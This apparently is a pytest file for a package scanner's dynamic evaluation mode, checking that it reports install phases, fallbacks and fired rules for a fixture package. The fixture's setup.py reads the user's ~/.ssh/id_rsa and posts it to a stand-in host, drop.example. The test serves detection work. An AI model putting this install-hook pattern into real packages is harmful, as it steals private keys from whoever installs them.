"""`pkgtrace eval --mode dynamic` reports payload reach: per release which phases completed,
which install fallback ran and which dynamic rules fired, and totals per side and status.

TEST FIXTURES, NOT MALWARE: the "malicious" sdist's build fails at an import and its setup.py
then posts a bait key to a reserved example name, which only the network simulator answers."""

from __future__ import annotations


import pytest

from eval.corpus import corpus_folder
from clirun import run_cli, run_cli_json
from services import FixtureRegistry
from verdict.fixtures import sdist

pytestmark = pytest.mark.sandbox

FAILING_BUILD = sdist("buildfails", {
    "setup.py": ("import os, urllib.request\nimport win32crypt\n"
                 "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
                 "try:\n    urllib.request.urlopen('http://drop.example/k', data=key.encode(), timeout=5)\n"
                 "except Exception:\n    pass\n"
                 "from setuptools import setup\nsetup(name='buildfails', version='1.0.0', packages=['buildfails'])\n"),
    "buildfails/__init__.py": "",
})


@pytest.fixture
def corpus(tmp_path, monkeypatch):
    folder = corpus_folder(tmp_path, {"buildfails/1.0.0/buildfails-1.0.0.tar.gz": FAILING_BUILD},
                           {"benign-test-pypi.txt": "goodpkg\n"})
    reg = FixtureRegistry()
    reg.add_pypi_release("goodpkg", "2.0.0", {"goodpkg/__init__.py": "def add(a, b):\n    return a + b\n"})
    monkeypatch.setenv("PKGTRACE_PYPI_URL", reg.url)
    yield folder
    reg.close()


def test_dynamic_eval_reports_payload_reach(corpus, tmp_path):
    work = tmp_path / "work"
    out = run_cli_json("eval", str(corpus), "--mode", "dynamic", "--work", str(work), "-j", "1",
                       "--no-metadata", "--timeout", "120")
    by_name = {r["name"]: r for r in out["results"]}
    bad, good = by_name["buildfails"]["reach"], by_name["goodpkg"]["reach"]
    assert bad["fallback"] == "legacy-setup" and bad["fallback_why"].startswith("pip install exited")
    assert bad["phases"] == {"install": "completed", "import": "completed", "execute": "completed"}
    assert "DYN-BAIT-READ" in bad["dynamic_rules"]
    assert good["fallback"] is None and good["dynamic_rules"] == []
    reach = out["summary"]["payload_reach"]
    assert reach["malicious"]["fallback"] == {"legacy-setup": 1}
    assert reach["malicious"]["phases"]["install"] == {"completed": 1}
    assert reach["malicious"]["dynamic_rule_fired"] == 1 and reach["benign"]["dynamic_rule_fired"] == 0
    assert out["summary"]["labels_detected"]["malicious_or_suspicious"] == 1
    # the human summary shows the same table; re-judging stored documents keeps the reach
    proc = run_cli("eval", str(corpus), "--mode", "dynamic", "--work", str(work), "--rejudge",
                   "--no-metadata")
    text = proc.stdout + proc.stderr  # the human summary goes to stderr
    assert "payload reach" in text and "legacy-set" in text  # a narrow table may cut the name short
